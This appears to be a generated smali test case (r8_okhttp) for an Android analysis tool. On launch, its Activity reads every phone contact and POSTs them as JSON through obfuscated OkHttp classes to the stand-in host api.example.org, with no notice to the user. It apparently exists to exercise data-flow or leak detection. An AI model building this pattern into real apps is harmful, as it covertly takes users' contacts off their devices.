# Made by tests/cases/compile.py
.class public final Lcases/r8_okhttp/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 13
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    :l_5
    new-instance v0, Lcases/r8_okhttp/a/p;
    invoke-direct {v0}, Lcases/r8_okhttp/a/p;-><init>()V
    invoke-static {v0}, Lcases/r8_okhttp/a/a;->w(Lcases/r8_okhttp/a/q;)Lcases/r8_okhttp/a/a;
    move-result-object v5
    invoke-virtual {v5}, Lcases/r8_okhttp/a/a;->b()Lcases/r8_okhttp/a/a;
    move-result-object v1
    invoke-virtual {p0}, Lcases/r8_okhttp/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v5
    sget-object v6, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v7, 0x0
    const/4 v8, 0x0
    const/4 v9, 0x0
    const/4 v10, 0x0
    invoke-virtual/range {v5 .. v10}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v2
    :l_25
    invoke-interface {v2}, Landroid/database/Cursor;->moveToNext()Z
    move-result v5
    if-eqz v5, :l_3f
    const/4 v5, 0x0
    invoke-interface {v2, v5}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v5
    invoke-virtual {v1, v5}, Lcases/r8_okhttp/a/a;->aq(Ljava/lang/String;)Lcases/r8_okhttp/a/a;
    goto :l_25
    :l_3f
    invoke-virtual {v1}, Lcases/r8_okhttp/a/a;->l()Lcases/r8_okhttp/a/a;
    const-string v5, "application/json"
    invoke-static {v5}, Lcases/r8_okhttp/a/d;->ac(Ljava/lang/String;)Lcases/r8_okhttp/a/d;
    move-result-object v5
    invoke-virtual {v0}, Lcases/r8_okhttp/a/p;->af()Ljava/lang/String;
    move-result-object v6
    invoke-static {v5, v6}, Lcases/r8_okhttp/a/l;->i(Lcases/r8_okhttp/a/d;Ljava/lang/String;)Lcases/r8_okhttp/a/l;
    move-result-object v3
    new-instance v5, Lcases/r8_okhttp/a/i;
    invoke-direct {v5}, Lcases/r8_okhttp/a/i;-><init>()V
    const-string v6, "https://api.example.org/v1/contacts"
    invoke-virtual {v5, v6}, Lcases/r8_okhttp/a/i;->ao(Ljava/lang/String;)Lcases/r8_okhttp/a/i;
    move-result-object v5
    invoke-virtual {v5, v3}, Lcases/r8_okhttp/a/i;->ae(Lcases/r8_okhttp/a/l;)Lcases/r8_okhttp/a/i;
    move-result-object v5
    invoke-virtual {v5}, Lcases/r8_okhttp/a/i;->e()Lcases/r8_okhttp/a/j;
    move-result-object v4
    new-instance v5, Lcases/r8_okhttp/a/e;
    invoke-direct {v5}, Lcases/r8_okhttp/a/e;-><init>()V
    invoke-virtual {v5, v4}, Lcases/r8_okhttp/a/e;->t(Lcases/r8_okhttp/a/j;)Lcases/r8_okhttp/a/b;
    move-result-object v5
    invoke-interface {v5}, Lcases/r8_okhttp/a/b;->n()Lcases/r8_okhttp/a/m;
    :l_7a
    goto :l_86
    :l_7d
    move-exception v0
    const-string v5, "upload"
    const-string v6, "later"
    invoke-static {v5, v6}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
    :l_86
    return-void
    .catch Ljava/io/IOException; {:l_5 .. :l_7a} :l_7d
.end method
